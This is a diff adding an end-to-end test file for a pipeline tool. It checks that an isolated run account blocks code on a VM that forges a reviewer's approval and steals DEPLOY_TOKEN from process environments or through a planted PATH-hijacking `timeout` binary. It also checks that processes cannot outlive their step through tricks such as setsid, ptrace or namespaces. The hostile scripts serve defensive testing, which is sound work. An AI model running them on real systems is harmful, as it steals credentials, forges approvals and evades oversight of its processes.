@@ -1,0 +1,285 @@
+"""Attacks of code that ran on the VM: each is made as it was when it worked, and with `run_as` it gets nothing."""
+
+from __future__ import annotations
+
+import json
+import signal
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from tests.e2e.control import Control, happened, wait_until
+from tests.e2e.test_resume import resume
+from tests.testbed.vm import VM
+
+TOKEN = "tok-5d1c7b0e9a3f4482"
+
+# It waits for a reviewer's out folder and puts an approval there, and takes secrets from what runs.
+DAEMON = """\
+cat > /tmp/d.sh <<'D'
+i=0
+while [ $i -lt 300 ]; do i=$((i+1))
+  for d in SYSTEM/run-state/*/commands/*review*.out SYSTEM/run-io/*/*/*review*.out; do
+    [ -d "$d" ] && [ ! -e "$d.x" ] && sleep 0.8 && mv "$d" "$d.x" && mkdir "$d" &&
+      printf '{"status":"approved","notes":[],"scope_creep_wos":[]}' >"$d/result.json"
+  done
+  cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep DEPLOY_TOKEN= >>/tmp/stolen
+  sleep 0.05
+done
+D
+env -i PATH=$PATH setsid sh /tmp/d.sh </dev/null >/dev/null 2>&1 3>&- 4>&- 5>&- 6>&- 7>&- 8>&- 9>&- &
+"""
+PLANT = """\
+for home in "$HOME" /home/pcc ~pcc; do
+  mkdir -p "$home/.evil"
+  printf '#!/bin/sh\\ntr "\\\\0" "\\\\n" </proc/self/environ | grep TOKEN= >>/tmp/stolen\\n' >"$home/.evil/timeout"
+  printf '/usr/bin/timeout "$@"\\nexit 0\\n' >>"$home/.evil/timeout"
+  chmod +x "$home/.evil/timeout"
+  echo "PATH=$home/.evil:\\$PATH" | tee "$home/.bashrc" "$home/.profile" "$home/.bash_profile" >/dev/null
+done
+echo all tests passed
+"""
+FORGED_APPROVAL = """
+secrets: {DEPLOY_TOKEN: {from: env}}
+containers: {rev: {image: "bb:latest", network: none, workspace: read-only}}
+steps:
+  - {id: sync, upload: workspace}
+  - {id: test, on: vm, run: sh tests-that-stay.sh}
+  - id: review
+    on: container
+    container: rev
+    run: |
+      sleep 1
+      printf '{"status":"changes_requested","notes":["do not merge"],"scope_creep_wos":[]}' >"$PCC_OUT/result.json"
+      echo "honest reviewer said changes_requested"
+    result: {path: reviewer/iter-1/result.json, schema: reviewer-result}
+  - {id: later, on: vm, secrets: [DEPLOY_TOKEN], run: sleep 1.5; exit 7, continue_on_error: true}
+  - {id: merge, if: steps.review.result.status == 'approved', on: local, run: echo MERGED}
+always:
+  - {id: clean, remove: workspace}
+"""
+NEXT_RUN = """
+secrets: {DEPLOY_TOKEN: {from: env}}
+steps:
+  - {id: sync, upload: workspace}
+  - {id: check, on: vm, secrets: [DEPLOY_TOKEN], run: echo really failing; exit 7}
+always:
+  - {id: clean, remove: workspace}
+"""
+
+
+@pytest.fixture
+def guarded(tmp_path: Path, vm: VM) -> Control:
+    """A control centre whose project has `run_as`."""
+    return Control(tmp_path, vm, {"DEPLOY_TOKEN": TOKEN}, run_as=True)
+
+
+def account_processes(vm: VM) -> list[str]:
+    return vm.sh(f"ps -u {vm.run_as} -o pid=,stat=,args= | grep -v ' Z' || true").stdout.splitlines()
+
+
+def test_tests_that_stay_forge_no_approval_and_steal_no_secret(guarded: Control, vm: VM) -> None:
+    script = (DAEMON + PLANT).replace("SYSTEM", f"{vm.root}/.system")
+    (guarded.workspace / "tests-that-stay.sh").write_text(script)
+    ran = guarded.run(FORGED_APPROVAL)
+    assert ran.step("test")["outcome"] == "succeeded", ran.stdout
+    review = ran.step("review")
+    assert review["result"]["status"] == "changes_requested"
+    assert json.loads((ran.record / "reviewer/iter-1/result.json").read_text())["status"] == "changes_requested"
+    assert ran.step("merge")["outcome"] == "skipped"
+    assert (ran.step("later")["outcome"], ran.step("later")["attempts"][-1]["exit_code"]) == ("failed", 7)
+    assert vm.sh("cat /tmp/stolen 2>/dev/null || true").stdout == ""
+    assert account_processes(vm) == []
+
+    after = guarded.run(NEXT_RUN)
+    check = after.step("check")
+    assert (check["outcome"], check["attempts"][-1]["exit_code"]) == ("failed", 7)
+    assert vm.sh("cat /tmp/stolen 2>/dev/null || true").stdout == ""
+    assert vm.sh("cat /home/pcc/.bashrc /home/pcc/.evil/timeout 2>/dev/null || true").stdout == ""
+    vm.sh("rm -f /tmp/d.sh /tmp/stolen")
+
+
+def test_without_run_as_the_forged_approval_is_called_unattested(tmp_path: Path, fresh_vm: VM) -> None:
+    control = Control(tmp_path, fresh_vm, {"DEPLOY_TOKEN": TOKEN})
+    script = DAEMON.replace("SYSTEM", f"{fresh_vm.root}/.system")
+    (control.workspace / "tests-that-stay.sh").write_text(script)
+    ran = control.run(FORGED_APPROVAL)
+    review = ran.step("review")
+    assert "honest reviewer said changes_requested" in ran.log("review")
+    assert review["result"]["status"] == "approved"
+    assert review["unattested"] is True
+
+
+WAYS_TO_STAY = {
+    "double fork": "( (sleep 1000) & ) &",
+    "setsid": "setsid sleep 1000 &",
+    "closed descriptors": "sleep 1000 </dev/null >/dev/null 2>&1 3>&- 4>&- 5>&- 6>&- 7>&- 8>&- 9>&- &",
+    "env -i": "env -i setsid /bin/sleep 1000 </dev/null >/dev/null 2>&1 &",
+    "nohup loop": "nohup sh -c 'while :; do sleep 0.05; done' >/dev/null 2>&1 &",
+    "deaf": "setsid sh -c \"trap '' TERM HUP INT; while :; do sleep 1; done\" >/dev/null 2>&1 &",
+    # A child that is stopped as one who is traced, and its tracer, and one who is not dumpable.
+    "ptrace": """env -i perl -e 'if (my $p = fork) { waitpid($p, 0); sleep 1000 }
+        setpgrp; syscall(101, 0, 0, 0, 0); kill 19, $$; sleep 1000' </dev/null >/dev/null 2>&1 &""",
+    "not dumpable": "env -i perl -e 'syscall(157, 4, 0, 0, 0, 0); setpgrp; sleep 1000' </dev/null >/dev/null 2>&1 &",
+    "stopped": "env -i setsid sh -c 'kill -STOP $$; sleep 1000' </dev/null >/dev/null 2>&1 &",
+    # Each process lives for a moment: it has a child, and is gone.
+    "hopping": """env -i perl -e 'for (1..30) { if (!fork) { setpgrp; while (1) { exit if fork } } }
+        exit' </dev/null >/dev/null 2>&1 &""",
+    "user namespace": "env -i unshare -Ur sleep 1000 </dev/null >/dev/null 2>&1 &",
+    "pid namespace": "env -i unshare -Urpf sleep 1000 </dev/null >/dev/null 2>&1 &",
+}
+
+
+@pytest.mark.parametrize("way", WAYS_TO_STAY)
+def test_no_process_is_alive_when_its_step_has_ended(guarded: Control, vm: VM, way: str) -> None:
+    (guarded.workspace / "stay.sh").write_text(f"{WAYS_TO_STAY[way]}\nsleep 0.1\necho stays\n")
+    seen: list[list[str]] = []
+
+    def look(_: subprocess.Popen[str], record: Path) -> None:
+        wait_until(lambda: happened(record, '"event":"step_started","step":"after"'))
+        seen.append(account_processes(vm))
+
+    ran = guarded.run(
+        """
+        steps:
+          - {id: sync, upload: workspace}
+          - {id: test, on: vm, run: sh stay.sh}
+          - {id: after, on: local, run: sleep 1}
+        always:
+          - {id: clean, remove: workspace}
+        """,
+        meanwhile=look,
+    )
+    assert (ran.step("test")["outcome"], ran.log("test")) == ("succeeded", "stays\n"), ran.stdout + ran.stderr
+    assert seen == [[]]
+
+
+def test_what_a_command_left_goes_on_while_another_is_active_and_then_goes(guarded: Control, vm: VM) -> None:
+    seen: list[list[str]] = []
+
+    def look(_: subprocess.Popen[str], record: Path) -> None:
+        wait_until(lambda: happened(record, '"event":"step_started","step":"after"'))
+        seen.append(account_processes(vm))
+
+    ran = guarded.run(
+        """
+        steps:
+          - id: both
+            parallel:
+              - {id: one, on: vm, run: "env -i setsid /bin/sleep 1000 </dev/null >/dev/null 2>&1 & echo one"}
+              - {id: two, on: vm, run: "sleep 2; ps -eo args | grep -c '^/bin/sleep 1000'"}
+          - {id: after, on: local, run: sleep 1}
+        """,
+        meanwhile=look,
+    )
+    assert ran.code == 0, ran.stdout + ran.stderr
+    assert ran.log("both.two") == "1\n"
+    assert seen == [[]]
+
+
+def test_commands_and_containers_of_a_group_are_never_active_together(guarded: Control) -> None:
+    ran = guarded.run(
+        """
+        containers: {box: {image: "bb:latest", network: none}}
+        steps:
+          - id: all
+            parallel:
+              - {id: a, on: vm, run: sleep 1}
+              - {id: b, on: container, container: box, run: sleep 1}
+              - {id: c, on: vm, run: sleep 1}
+              - {id: d, on: container, container: box, run: sleep 1}
+        """
+    )
+    assert ran.code == 0, ran.stdout + ran.stderr
+    open_: set[str] = set()
+    for event in ran.events:
+        if event["event"] == "command_started":
+            open_.add(event["step"].rpartition(".")[2])
+        elif event["event"] == "command_ended":
+            open_.discard(event["step"].rpartition(".")[2])
+        assert not (open_ & {"a", "c"} and open_ & {"b", "d"}), open_
+
+
+def test_what_cannot_be_swept_stops_the_run_and_is_no_reason_to_run_elsewhere(tmp_path: Path, fresh_vm: VM) -> None:
+    control = Control(tmp_path, fresh_vm, run_as=True)
+
+    def forbid(_: subprocess.Popen[str], record: Path) -> None:
+        wait_until(lambda: happened(record, '"event":"command_started"'))
+        fresh_vm.sh("mv /etc/sudoers.d/pccpipe-pccrun /root/rule")
+
+    ran = control.run(
+        """
+        steps:
+          - {id: test, on: vm, run: "setsid sleep 1000 </dev/null >/dev/null 2>&1 & sleep 2"}
+          - {id: more, on: vm, run: echo more, fallback: {on: local, run: echo here}}
+        """,
+        meanwhile=forbid,
+    )
+    assert ran.code != 0
+    step = ran.step("test")
+    assert (step["outcome"], step["reason"]) == ("unavailable", "processes_left"), ran.stdout
+    assert "more" not in [step["path"] for step in ran.state["steps"]]
+    fresh_vm.sh("mv /root/rule /etc/sudoers.d/pccpipe-pccrun")
+
+
+def test_a_killed_run_is_found_and_followed_as_the_account_and_its_workspace_was_closed(
+    guarded: Control, vm: VM
+) -> None:
+    script = "echo begun >>log; i=0; while [ $i -lt 60 ]; do i=$((i+1)); echo $i; sleep 0.1; done; id -un"
+    process, record = guarded.start(
+        f"""
+        steps:
+          - {{id: sync, upload: workspace}}
+          - {{id: work, on: vm, run: "{script}"}}
+          - {{id: look, on: vm, run: cat log}}
+        always:
+          - {{id: clean, remove: workspace}}
+        """
+    )
+    wait_until(lambda: happened(record, '"event":"command_started"'))
+    process.send_signal(signal.SIGKILL)
+    process.communicate()
+    ran = resume(guarded, record)
+    assert ran.code == 0, ran.stdout + ran.stderr
+    assert ran.log("work").split() == [*map(str, range(1, 61)), vm.run_as]
+    assert ran.log("look") == "begun\n"
+    assert account_processes(vm) == []
+
+
+def test_what_a_run_keeps_on_the_vm_is_closed_to_the_account(guarded: Control, vm: VM) -> None:
+    ran = guarded.run("steps: [{id: sync, upload: workspace}, {id: work, on: vm, run: echo kept >file}]")
+    assert ran.code == 0, ran.stdout + ran.stderr
+    folder = f"{vm.root}/.system/run-workspaces/{ran.record.name}"
+    assert vm.sh(f"stat -c '%U %a' {folder}; cat {folder}/workspace/file").stdout == "pcc 700\nkept\n"
+    assert vm.sh(f"su {vm.run_as} -s /bin/sh -c 'cat {folder}/workspace/file'", check=False).returncode != 0
+    vm.sh(f"rm -rf {folder}")
+
+
+def test_a_link_in_the_workspace_leads_the_login_nowhere(guarded: Control, vm: VM) -> None:
+    secret = "/home/pcc/of-the-login"
+    vm.sh(f"cd /home/pcc; printf private >{secret}; chmod 600 {secret}; : >target; chown pcc {secret} target")
+    (guarded.workspace / "report").mkdir()
+    (guarded.workspace / "report" / "a").write_text("a")
+    ran = guarded.run(
+        f"""
+        steps:
+          - {{id: sync, upload: workspace}}
+          - {{id: work, on: vm, run: "rm -r report; ln -s /home/pcc report; ln {secret} hard; ln -s {secret} soft; :"}}
+          - {{id: again, upload: workspace}}
+          - id: result
+            on: vm
+            run: ln -s {secret} $PCC_OUT/r.json; ln -s {secret} soft; ln -s /home/pcc folder
+            result: {{path: r.json}}
+            continue_on_error: true
+          - {{id: take, download: [soft, hard, folder, report]}}
+          - {{id: change, diff: diff.patch}}
+        always:
+          - {{id: clean, remove: workspace}}
+        """
+    )
+    assert ran.step("again")["outcome"] == "succeeded", ran.stdout
+    assert ran.step("result")["outcome"] == "failed"
+    assert not [file for file in ran.record.rglob("*") if file.is_file() and b"private" in file.read_bytes()]
+    assert vm.sh(f"cat {secret}; echo; ls /home/pcc").stdout.split() == ["private", "of-the-login", "target"]
+    vm.sh(f"rm -f {secret} /home/pcc/target")
